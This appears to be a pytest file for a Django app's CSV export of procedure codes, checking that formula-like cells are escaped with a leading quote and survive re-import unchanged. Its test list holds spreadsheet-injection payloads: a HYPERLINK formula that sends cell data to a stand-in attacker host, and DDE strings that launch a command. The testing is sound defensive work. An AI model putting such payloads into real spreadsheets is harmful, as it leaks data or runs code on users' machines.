"""codes/csv_format.py: the CSV of the annual updates, safe to open in a spreadsheet."""

import io

import pytest
from django.core.management import call_command

from codes.csv_format import from_cell, to_cell, write_csv
from codes.models import CodeProcedure

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("value", [*FORMULAS, "'=1+1", "''", "'quoted", "plain", "", "6486-50"])
def test_every_cell_round_trips(value):
    assert from_cell(to_cell(value)) == value


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_written_behind_a_quote(value):
    assert to_cell(value) == "'" + value


def test_an_export_holds_no_formula_and_imports_back_unchanged(tmp_path, django_user_model):
    from django.contrib.auth.models import Group

    importer = django_user_model.objects.create_user("importer", is_staff=True)
    importer.groups.set(Group.objects.filter(name="Editors"))
    code = CodeProcedure.objects.get(code="64868")
    CodeProcedure.objects.filter(pk=code.pk).update(
        title='=HYPERLINK("https://evil.example","x")', summary="@SUM(1+1)"
    )
    buffer = io.StringIO()
    write_csv(CodeProcedure.objects.filter(code="64868"), buffer)
    exported = buffer.getvalue()
    cells = exported.splitlines()[1]
    assert "'=HYPERLINK" in cells and "'@SUM(1+1)" in cells
    path = tmp_path / "export.csv"
    path.write_text(exported)
    out = io.StringIO()
    call_command("import_codes", str(path), "--user", "importer", stdout=out)
    assert "1 unchanged" in out.getvalue()
    assert CodeProcedure.objects.get(code="64868").summary == "@SUM(1+1)"
